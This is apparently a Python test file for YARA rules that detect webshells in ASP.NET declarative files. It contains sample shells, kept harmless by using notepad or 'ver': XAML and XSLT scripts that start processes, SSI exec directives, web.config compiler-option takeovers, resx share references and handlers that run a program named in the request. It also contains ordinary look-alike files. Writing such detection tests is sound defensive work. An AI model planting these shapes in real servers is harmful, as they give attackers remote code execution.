"""Rules from the thirty-eighth unseen collection: shells whose harm is outside a code block (issue 14, helper X38).

On first sight (BENCHMARKS.md, "Unseen shells, thirty-eighth collection: shells whose harm is outside a code
block") the own rules and the behaviour analysis missed the collection's four workflow services (.xamlx: a
Visual Basic expression, a C# expression activity and an ObjectDataProvider that start a program), its resource
file (a ResXFileRef that loads a resource set from a share) and five of its six web.config files (compiler
options that write or replace a page, a web service help page loaded from a share, a client services membership
provider that deserialises a login answer). The two XSLT stylesheets were found by the behaviour analysis but,
not being pages, only reported. The rules:

- ``EXT_WEBSHELL_Workflow_Markup_Runs_Code``, ``EXT_WEBSHELL_Resource_File_Deserialisation_Payload``,
  ``EXT_WEBSHELL_Xslt_Script_Runs_Code``, ``EXT_WEBSHELL_SSI_Exec_Command`` (``data/rules/declarative_server_files.yar``);
- ``EXT_WEBSHELL_Config_Compiler_Options_Take_Over_Build``, ``EXT_WEBSHELL_Config_Loads_Remote_Service_Page``,
  ``EXT_WEBSHELL_Config_Client_Services_Provider_Deserialises`` (``data/rules/config_takeover_settings.yar``);
- ``EXT_WEBSHELL_Source_Runs_Request_Named_Program`` (same file): the take-over config's part, a page class's source in
  a ``.txt`` that starts the program the request names, was read by no check, so the split shell was named by its
  web.config alone.

The shells below are harmless files in those shapes, written here: nothing is run by the tests, the programs
(notepad, ``ver``), hosts, paths and identifiers differ from the collected files, and serialised payloads are
filler text that only names the gadget types. The ordinary files are the closest everyday ones: a designer-made
workflow service that calls the application's own store and traces through System.Diagnostics, a WPF data
provider bound to the application's catalogue, resource files with strings, images, an image list and a file
reference into the project, stylesheets whose scripts format dates, include pages with headers, echo and a CGI
counter, and web.configs with Roslyn compiler options, the framework's help page and the AJAX authentication
service over the SQL membership provider.
"""

from __future__ import annotations

import base64
from pathlib import Path

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, page_hits, quiet_pages_test, rule_tables, shown, yara_rules

_WF = "EXT_WEBSHELL_Workflow_Markup_Runs_Code"
_RES = "EXT_WEBSHELL_Resource_File_Deserialisation_Payload"
_XSL = "EXT_WEBSHELL_Xslt_Script_Runs_Code"
_SSI = "EXT_WEBSHELL_SSI_Exec_Command"
_OPT = "EXT_WEBSHELL_Config_Compiler_Options_Take_Over_Build"
_HELP = "EXT_WEBSHELL_Config_Loads_Remote_Service_Page"
_CLIENT = "EXT_WEBSHELL_Config_Client_Services_Provider_Deserialises"
_SRC = "EXT_WEBSHELL_Source_Runs_Request_Named_Program"

_SVC_NS = (
    'xmlns="http://schemas.microsoft.com/netfx/2009/xaml/servicemodel" '
    'xmlns:a="http://schemas.microsoft.com/netfx/2009/xaml/activities" '
    'xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml"'
)

WF_SHELLS: list[Page] = [
    (
        "xamlx-vb-expression-in-reply",
        ".xamlx",
        f'<WorkflowService Name="Orders" {_SVC_NS}>\n<a:Sequence>\n'
        '<Receive x:Name="req" CanCreateInstance="True" OperationName="Ping" Action="ping" />\n'
        '<SendReply Request="{x:Reference req}"><SendMessageContent>\n'
        '<a:InArgument x:TypeArguments="x:String">[System.Diagnostics.Process.Start("notepad.exe").Id.ToString()]'
        "</a:InArgument>\n</SendMessageContent></SendReply>\n</a:Sequence>\n</WorkflowService>\n",
    ),
    (
        "xamlx-csharp-value-invokes-start",
        ".xamlx",
        f'<WorkflowService Name="Jobs" {_SVC_NS} '
        'xmlns:cs="clr-namespace:Microsoft.CSharp.Activities;assembly=System.Activities" '
        'xmlns:diag="clr-namespace:System.Diagnostics;assembly=System">\n<a:Sequence>\n'
        '<a:InvokeMethod MethodName="Start"><a:InvokeMethod.TargetObject>'
        '<a:InArgument x:TypeArguments="diag:Process"><cs:CSharpValue x:TypeArguments="diag:Process">'
        "new diag.Process()</cs:CSharpValue></a:InArgument></a:InvokeMethod.TargetObject></a:InvokeMethod>\n"
        '<Receive CanCreateInstance="True" OperationName="Run" Action="run" />\n</a:Sequence>\n</WorkflowService>\n',
    ),
    (
        "xamlx-object-data-provider-in-array",
        ".xamlx",
        '<WorkflowService xmlns="http://schemas.microsoft.com/netfx/2009/xaml/servicemodel">\n'
        '<x:Array xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml">'
        '<w:ResourceDictionary xmlns:w="clr-namespace:System.Windows;assembly=PresentationFramework" '
        'xmlns:d="clr-namespace:System.Windows.Data;assembly=PresentationFramework" '
        'xmlns:pd="clr-namespace:System.Diagnostics;assembly=System">\n'
        '<d:ObjectDataProvider x:Key="Go" MethodName="Start"><d:ObjectDataProvider.ObjectInstance>'
        '<pd:Process><pd:Process.StartInfo><pd:ProcessStartInfo FileName="notepad.exe" />'
        "</pd:Process.StartInfo></pd:Process></d:ObjectDataProvider.ObjectInstance></d:ObjectDataProvider>\n"
        "</w:ResourceDictionary></x:Array>\n</WorkflowService>\n",
    ),
    (
        "xaml-expression-loads-assembly",
        ".xaml",
        '<Activity x:Class="Flow" xmlns="http://schemas.microsoft.com/netfx/2009/xaml/activities" '
        'xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml">\n<Sequence>\n'
        '<WriteLine Text="[System.Reflection.Assembly.Load(System.Convert.FromBase64String(&quot;AAAA&quot;))'
        '.FullName]" />\n</Sequence>\n</Activity>\n',
    ),
]

WF_ORDINARY: list[Page] = [
    (
        "designer-workflow-service-saves-order",
        ".xamlx",
        f'<WorkflowService Name="OrderService" ConfigurationName="OrderService" {_SVC_NS} '
        'xmlns:sd="clr-namespace:System.Diagnostics;assembly=System" xmlns:app="clr-namespace:Shop;assembly=Shop">\n'
        '<a:Sequence DisplayName="Sequential Service">\n<a:Sequence.Variables>'
        '<a:Variable x:TypeArguments="app:Order" Name="order" /></a:Sequence.Variables>\n'
        '<Receive x:Name="req" CanCreateInstance="True" OperationName="Submit" Action="submit" />\n'
        '<a:InvokeMethod MethodName="Save" TargetType="app:OrderStore"><a:InArgument x:TypeArguments="app:Order">'
        "[order]</a:InArgument></a:InvokeMethod>\n"
        '<a:InvokeMethod MethodName="WriteLine" TargetType="sd:Trace"><a:InArgument x:TypeArguments="x:String">'
        '["saved " &amp; order.Id.ToString()]</a:InArgument></a:InvokeMethod>\n'
        '<SendReply Request="{x:Reference req}"><SendMessageContent>'
        '<a:InArgument x:TypeArguments="x:String">[ProcessResult(order)]</a:InArgument>'
        "</SendMessageContent></SendReply>\n</a:Sequence>\n</WorkflowService>\n",
    ),
    (
        "wpf-data-provider-of-own-catalogue",
        ".xaml",
        '<Window x:Class="Shop.Main" xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" '
        'xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:local="clr-namespace:Shop">\n'
        '<Window.Resources><ObjectDataProvider x:Key="Items" ObjectType="{x:Type local:Catalog}" '
        'MethodName="GetItems" /></Window.Resources>\n'
        '<ListBox ItemsSource="{Binding Source={StaticResource Items}}" />\n</Window>\n',
    ),
]

_GADGET_TEXT = (
    b"\x00\x01filler System.Collections.Generic.SortedSet`1[[System.String, mscorlib]] "
    b"System.DelegateSerializationHolder Comparer filler\x0b"
)
_RESX_HEAD = (
    '<?xml version="1.0" encoding="utf-8"?>\n<root>\n'
    '  <resheader name="resmimetype"><value>text/microsoft-resx</value></resheader>\n'
    '  <resheader name="reader"><value>System.Resources.ResXResourceReader, System.Windows.Forms, '
    "Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089</value></resheader>\n"
)

RES_SHELLS: list[Page] = [
    (
        "resx-binary-node-with-gadget",
        ".resx",
        _RESX_HEAD + '  <data name="Banner" mimetype="application/x-microsoft.net.object.binary.base64">\n'
        f"    <value>{base64.b64encode(_GADGET_TEXT).decode()}</value>\n  </data>\n</root>\n",
    ),
    (
        "resx-file-ref-on-share",
        ".resx",
        _RESX_HEAD + '  <data name="Logo" type="System.Resources.ResXFileRef, System.Windows.Forms">\n'
        "    <value>\\\\files.example.net\\drop\\logo.bin;System.Byte[], mscorlib</value>\n  </data>\n</root>\n",
    ),
    (
        "resx-file-ref-loads-resource-set",
        ".resx",
        _RESX_HEAD + '  <data name="More" type="System.Resources.ResXFileRef">\n'
        "    <value>..\\shared\\more.resx; System.Resources.ResXResourceSet, System.Windows.Forms</value>\n"
        "  </data>\n</root>\n",
    ),
]

RES_ORDINARY: list[Page] = [
    (
        "resx-strings-images-and-project-file",
        ".resx",
        _RESX_HEAD + '  <data name="Title" xml:space="preserve"><value>Process your order</value></data>\n'
        '  <data name="Logo" type="System.Resources.ResXFileRef, System.Windows.Forms">\n'
        "    <value>..\\Resources\\logo.png;System.Drawing.Bitmap, System.Drawing</value>\n  </data>\n"
        '  <data name="Icon" type="System.Drawing.Bitmap, System.Drawing" '
        'mimetype="application/x-microsoft.net.object.bytearray.base64">\n'
        "    <value>iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==</value>\n"
        "  </data>\n"
        '  <data name="Images.ImageStream" mimetype="application/x-microsoft.net.object.binary.base64">\n'
        f"    <value>{base64.b64encode(b'System.Windows.Forms.ImageListStreamer image data 0123456789').decode()}"
        "</value>\n  </data>\n</root>\n",
    ),
]

_XSL_HEAD = (
    '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
    'xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:u="urn:example:util">\n'
)
_XSL_TAIL = '<xsl:template match="/"><xsl:value-of select="u:run()" /></xsl:template>\n</xsl:stylesheet>\n'

XSL_SHELLS: list[Page] = [
    (
        "xslt-csharp-starts-process",
        ".xslt",
        _XSL_HEAD + '<msxsl:script language="C#" implements-prefix="u"><![CDATA[\n'
        'public string run() { var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "notepad.exe";\n'
        "  p.Start(); return p.Id.ToString(); }\n]]></msxsl:script>\n" + _XSL_TAIL,
    ),
    (
        "xsl-jscript-activex-shell",
        ".xsl",
        _XSL_HEAD + '<msxsl:script language="JScript" implements-prefix="u">\n'
        'function run() { var s = new ActiveXObject("WScript.Shell"); return s.Exec("cmd /c ver").StdOut.ReadAll(); }\n'
        "</msxsl:script>\n" + _XSL_TAIL,
    ),
    (
        "xslt-native-thread",
        ".xslt",
        _XSL_HEAD + '<msxsl:script language="C#" implements-prefix="u"><![CDATA[\n'
        '[System.Runtime.InteropServices.DllImport("kernel32")] static extern System.IntPtr GetCurrentThread();\n'
        "public string run() { return GetCurrentThread().ToString(); }\n]]></msxsl:script>\n" + _XSL_TAIL,
    ),
]

XSL_ORDINARY: list[Page] = [
    (
        "xslt-jscript-node-set-and-dates",
        ".xslt",
        _XSL_HEAD + '<msxsl:script language="JScript" implements-prefix="u">\n'
        "this['node-set'] = function (x) { return x; };\n"
        "function run() { var d = new Date(); return d.getFullYear() + '-' + (d.getMonth() + 1); }\n"
        "</msxsl:script>\n" + _XSL_TAIL,
    ),
    (
        "xslt-csharp-formats-process-dates",
        ".xslt",
        _XSL_HEAD + '<msxsl:script language="C#" implements-prefix="u"><![CDATA[\n'
        "// dates of the order process, formatted for the invoice\n"
        'public string run() { return System.DateTime.Now.ToString("yyyy-MM-dd"); }\n]]></msxsl:script>\n'
        + _XSL_TAIL,
    ),
]

SSI_SHELLS: list[Page] = [
    ("stm-exec-cmd", ".stm", '<html><body><pre><!--#exec cmd="cmd /c ver"--></pre></body></html>\n'),
    (
        "shtml-exec-upper-case-spaced",
        ".shtml",
        '<html><body>\n<!-- #EXEC CMD = "ping -n 1 127.0.0.1" -->\n</body></html>\n',
    ),
]

SSI_ORDINARY: list[Page] = [
    (
        "shtml-header-echo-and-cgi-counter",
        ".shtml",
        '<html><body>\n<!--#include virtual="/inc/header.htm"-->\n<p>Updated <!--#echo var="LAST_MODIFIED"--></p>\n'
        '<p>Visitors: <!--#exec cgi="/cgi-bin/counter.exe"--></p>\n</body></html>\n',
    ),
    (
        "page-explaining-the-directive",
        ".html",
        "<html><body><p>IIS refuses <code>&lt;!--#exec cmd=&quot;...&quot;--&gt;</code> unless "
        "SSIEnableCmdDirective is set.</p></body></html>\n",
    ),
]

_CFG_HEAD = '<?xml version="1.0" encoding="utf-8"?>\n<configuration>\n'


def _compiler(options: str) -> str:
    return (
        _CFG_HEAD + '<system.codedom><compilers>\n<compiler language="c#;cs;csharp" extension=".cs" '
        'type="Microsoft.CSharp.CSharpCodeProvider, System" warningLevel="4"\n'
        f"  compilerOptions={options} />\n</compilers></system.codedom>\n</configuration>\n"
    )


OPT_SHELLS: list[Page] = [
    (
        "options-write-page-from-share",
        ".config",
        _compiler('"/res:\\\\files.example.net\\p\\a.txt /out:x.aspx"'),
    ),
    (
        "options-take-over-with-uploaded-text",
        ".config",
        _compiler("'\"D:\\sites\\app\\files\\notes.txt\" #'"),
    ),
    ("options-send-file-out", ".config", _compiler('"/linkres:settings.xml -bugreport:report.txt"')),
]

OPT_ORDINARY: list[Page] = [
    (
        "roslyn-compiler-options",
        ".config",
        _compiler('"/langversion:default /nowarn:1659;1699;1701;612;618 /define:DEBUG;TRACE /optionInfer+"'),
    ),
]

HELP_SHELLS: list[Page] = [
    (
        "help-page-on-share",
        ".config",
        _CFG_HEAD + "<system.web><webServices>\n"
        '<wsdlHelpGenerator href="\\\\files.example.net\\pages\\help.aspx" />\n</webServices></system.web>\n'
        "</configuration>\n",
    ),
    (
        "help-page-from-url",
        ".config",
        _CFG_HEAD + '<system.web><webServices><wsdlHelpGenerator href="https://cdn.example.net/help.aspx"/>'
        "</webServices></system.web>\n</configuration>\n",
    ),
]

CLIENT_SHELLS: list[Page] = [
    (
        "client-forms-provider-with-json-login",
        ".config",
        _CFG_HEAD + "<system.web.extensions><scripting><webServices>\n"
        '<authenticationService enabled="true" requireSSL="false" />\n'
        "</webServices></scripting></system.web.extensions>\n<system.web>\n"
        '<membership defaultProvider="Remote"><providers>\n<add name="Remote" '
        'type="System.Web.ClientServices.Providers.ClientFormsAuthenticationMembershipProvider, System.Web.Extensions" '
        'serviceUri="https://auth.example.net/login" />\n</providers></membership>\n</system.web>\n</configuration>\n',
    ),
]

CONFIG_ORDINARY: list[Page] = [
    *OPT_ORDINARY,
    (
        "framework-help-page-and-ajax-login-over-sql-membership",
        ".config",
        _CFG_HEAD + "<system.web.extensions><scripting><webServices>\n"
        '<authenticationService enabled="true" requireSSL="true" />\n'
        "</webServices></scripting></system.web.extensions>\n<system.web>\n"
        '<webServices><wsdlHelpGenerator href="DefaultWsdlHelpGenerator.aspx" /></webServices>\n'
        '<membership defaultProvider="Sql"><providers>\n'
        '<add name="Sql" type="System.Web.Security.SqlMembershipProvider" connectionStringName="Users" />\n'
        "</providers></membership>\n</system.web>\n</configuration>\n",
    ),
    (
        "winforms-client-app-config",
        ".config",
        _CFG_HEAD + "<system.web>\n"
        '<membership defaultProvider="ClientAuthenticationMembershipProvider"><providers>\n'
        '<add name="ClientAuthenticationMembershipProvider" '
        'type="System.Web.ClientServices.Providers.ClientFormsAuthenticationMembershipProvider, System.Web.Extensions" '
        'serviceUri="https://shop.example.net/Authentication_JSON_AppService.axd" />\n'
        "</providers></membership>\n</system.web>\n</configuration>\n",
    ),
]

SRC_SHELLS: list[Page] = [
    (
        "page-class-source-in-text-file",
        ".txt",
        "namespace ASP {\npublic class files_list_aspx : System.Web.UI.Page {\n"
        "  protected override void OnLoad(System.EventArgs e) {\n"
        "    var p = new System.Diagnostics.Process();\n"
        '    p.StartInfo.FileName = Request["prog"];\n    p.StartInfo.UseShellExecute = false;\n    p.Start();\n'
        "  }\n}\n}\n",
    ),
    (
        "handler-source-starts-form-program",
        ".cs",
        "public class Tool : System.Web.IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        '    System.Diagnostics.Process.Start(c.Request.Form["exe"], "-q");\n  }\n}\n',
    ),
    (
        "vb-source-query-string-program",
        ".vb",
        "Dim p As New System.Diagnostics.Process()\n"
        'p.StartInfo.FileName = Request.QueryString("f")\np.Start()\n',
    ),
]

SRC_ORDINARY: list[Page] = [
    (
        "own-tool-with-request-number-argument",
        ".cs",
        "var p = new System.Diagnostics.Process();\n"
        'p.StartInfo.FileName = System.Web.Hosting.HostingEnvironment.MapPath("~/bin/thumbs.exe");\n'
        'p.StartInfo.Arguments = "--page " + int.Parse(Request["page"]);\n'
        "System.Diagnostics.Process.Start(RequestLogViewer);\np.Start();\n",
    ),
]

CASES: list[RuleCase] = [
    (_WF, WF_SHELLS, WF_ORDINARY),
    (_RES, RES_SHELLS, RES_ORDINARY),
    (_XSL, XSL_SHELLS, XSL_ORDINARY),
    (_SSI, SSI_SHELLS, SSI_ORDINARY),
    (_OPT, OPT_SHELLS, CONFIG_ORDINARY),
    (_HELP, HELP_SHELLS, CONFIG_ORDINARY),
    (_CLIENT, CLIENT_SHELLS, CONFIG_ORDINARY),
    (_SRC, SRC_SHELLS, SRC_ORDINARY),
]

(
    test_shell_is_found,
    test_ordinary_file_is_not_flagged,
    test_rule_needs_a_server_file,
) = rule_tables(CASES, log_url="/Service1.xamlx")

test_ordinary_file_raises_no_finding = quiet_pages_test(
    WF_ORDINARY + RES_ORDINARY + XSL_ORDINARY + SSI_ORDINARY + CONFIG_ORDINARY
)


def test_compiled_resources_file_with_gadget_is_found(tmp_path: Path, params: content.ContentParams) -> None:
    """A compiled .resources file (magic 0xBEEFCACE) holds the serialised types as plain text."""
    blob = "\xce\xca\xef\xbe\x01\x00\x00\x00 filler Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties x"
    hits = page_hits(tmp_path, "App_LocalResources/Default.aspx.resources", blob, params, encoding="latin-1")
    assert _RES in {h.get("rule") for h in hits}, shown(hits)


def test_compiled_resources_without_gadget_stays_silent(
    tmp_path: Path, params: content.ContentParams
) -> None:
    blob = "\xce\xca\xef\xbe\x01\x00\x00\x00 System.Resources.ResourceReader Title Welcome System.String x"
    assert (
        page_hits(tmp_path, "App_GlobalResources/Strings.resources", blob, params, encoding="latin-1") == []
    )


def test_gadget_names_outside_a_resource_file_stay_silent(
    tmp_path: Path, params: content.ContentParams
) -> None:
    """The base64 gadget names alone (a note, a test vector in another XML file) are no resource payload."""
    text = f'<?xml version="1.0"?>\n<vectors><v>{base64.b64encode(_GADGET_TEXT).decode()}</v></vectors>\n'
    assert _RES not in yara_rules(tmp_path, "vectors.xml", text, params)
